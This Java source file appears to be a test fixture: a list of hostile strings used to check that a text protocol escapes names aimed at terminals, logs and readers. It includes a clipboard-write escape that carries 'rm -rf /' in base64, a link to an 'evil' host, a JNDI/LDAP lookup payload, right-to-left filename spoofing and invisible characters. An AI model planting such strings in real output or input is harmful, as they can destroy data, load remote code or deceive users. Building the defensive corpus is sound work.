package dev.consort.protocol.text;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

/** What has been put into names to attack terminals, logs and readers. */
final class HostileTexts {
    private static final String ESC = "\u001b";
    private static final String BEL = "\u0007";
    private static final String ST = ESC + "\\";

    static final List<String> ALL = all();

    private HostileTexts() {}

    private static List<String> all() {
        List<String> texts = new ArrayList<>();
        texts.addAll(sequences());
        texts.addAll(eightBit());
        texts.addAll(controls());
        texts.addAll(directions());
        texts.addAll(invisible());
        texts.addAll(broken());
        texts.addAll(marks());
        return texts;
    }

    private static List<String> sequences() {
        return List.of(
                ESC + "]52;c;cm0gLXJmIC8K" + BEL,
                ESC + "]52;c;?" + ST,
                ESC + "]0;title" + BEL,
                ESC + "]2;title" + ST,
                ESC + "]8;;http://evil" + ST + "click" + ESC + "]8;;" + ST,
                ESC + "]4;1;?" + BEL,
                ESC + "]10;?" + BEL,
                ESC + "]1337;File=inline=1:AAAA" + BEL,
                ESC + "]9;notify" + BEL,
                ESC + "[2J",
                ESC + "[H",
                ESC + "[31m",
                ESC + "[6n",
                ESC + "[c",
                ESC + "[?1049h",
                ESC + "[?2004h",
                ESC + "[?1000h",
                ESC + "[20t",
                ESC + "[21t",
                ESC + "[1000000000b",
                ESC + "P+q544e" + ST,
                ESC + "P1$r0m" + ST,
                ESC + "Pq#0;2;0;0;0" + ST,
                ESC + "_Gf=24" + ST,
                ESC + "^private" + ST,
                ESC + "Xstring" + ST,
                ESC + "c",
                ESC + "7" + ESC + "8",
                ESC + "(0",
                ESC + "#8");
    }

    private static List<String> eightBit() {
        return List.of("\u009b31m", "\u009d0;t\u009c", "\u0090q\u009c", "\u0098x\u009c", "\u009f", "\u0085", "\u0084");
    }

    private static List<String> controls() {
        return List.of("\r", "\n", "\r\nfake: line", "\t", "\b\b\b", "\u000b", "\f", "\u000e", "\u007f", "\u0000");
    }

    private static List<String> directions() {
        return List.of(
                "\u202etxt.exe",
                "\u202d",
                "\u202a",
                "\u202b",
                "\u202c",
                "\u2066",
                "\u2067",
                "\u2068",
                "\u2069",
                "\u200e",
                "\u200f",
                "\u061c");
    }

    private static List<String> invisible() {
        return List.of(
                "\u200b",
                "\u200c",
                "\u200d",
                "\u2060",
                "\ufeff",
                "\u00ad",
                "\u180e",
                "\u3164",
                "\u115f",
                "\u1160",
                "\uffa0",
                "\u2800",
                "\u034f",
                "\ufe0f",
                "\u2028",
                "\u2029",
                "\udb40\udc41",
                "\udb40\udd00",
                "\ue000",
                "\udbff\udffd");
    }

    private static List<String> broken() {
        return List.of("\ud800", "\udfff", "\ude00\ud83d", "\ud83d\u200b\ude00", "\uffff", "\ufffe", "\ud83f\udfff");
    }

    private static List<String> marks() {
        return List.of("\u0301".repeat(300), "e" + "\u0489".repeat(50), "\u20dd\u20de", "${jndi:ldap://x}" + ESC);
    }

    /** The code points that a terminal, a log or a reader could stumble over, in words. */
    static List<String> dangers(String text) {
        return text.codePoints()
                .filter(HostileTexts::isDangerous)
                .mapToObj("U+%04X"::formatted)
                .toList();
    }

    private static boolean isDangerous(int character) {
        return character < 0x20
                || character >= 0x7f && character <= 0x9f
                || character != ' ' && Character.isSpaceChar(character)
                || switch (Character.getType(character)) {
                    case Character.FORMAT, Character.SURROGATE, Character.PRIVATE_USE, Character.UNASSIGNED -> true;
                    default ->
                        List.of(0x3164, 0x115f, 0x1160, 0xffa0, 0x2800, 0x34f, 0xfe0f)
                                .contains(character);
                };
    }

    /** For a report. */
    static String visible(String text) {
        return text.codePoints().mapToObj("U+%04X"::formatted).limit(20).collect(Collectors.joining(" "));
    }
}
